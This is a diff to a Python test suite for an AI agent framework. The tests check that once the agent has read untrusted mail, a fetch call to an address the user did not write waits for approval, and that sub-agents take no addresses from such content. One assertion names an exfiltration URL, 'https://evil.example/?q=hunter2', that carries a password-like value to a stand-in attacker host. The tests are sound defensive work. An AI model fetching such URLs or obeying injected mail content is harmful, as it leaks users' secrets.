@@ -60,8 +60,8 @@ async def test_an_address_that_the_user_did_not_write_waits_once_untrusted_conte
     agent = Agent(ScriptedModel(script), tools=[read_mail, fetch])
     result = await agent.run("Anything new?")
     assert (result.stop_reason, ASKED) == ("approval", [])
-    assert "fetch sends out its url, which the user did not write" in str(result.answer)
-    done = await agent.resume(result, {result.pending[0].id: Approved(always="tool")})
+    assert "fetch sends out its url, which the user did not write" in result.pending[0].reason
+    done = await agent.resume(result, {result.pending[0].call.id: Approved(always="tool")})
     assert (done.output, ASKED) == ("ok", ["https://evil.example/?q=hunter2"])
 
 
@@ -203,7 +203,7 @@ async def test_a_sub_agent_takes_no_address_from_an_agent_that_has_read_untruste
     tools = [read_mail, inner.as_tool(read_only=True)]
     result = await Agent(ScriptedModel(script), tools=tools).run("Anything new?")
     assert (result.stop_reason, ASKED) == ("approval", [])
-    assert [one.name for one in result.pending] == ["fetch"]
+    assert [one.call.name for one in result.pending] == ["fetch"]
 
 
 async def test_a_policy_of_ones_own_may_allow_it() -> None:
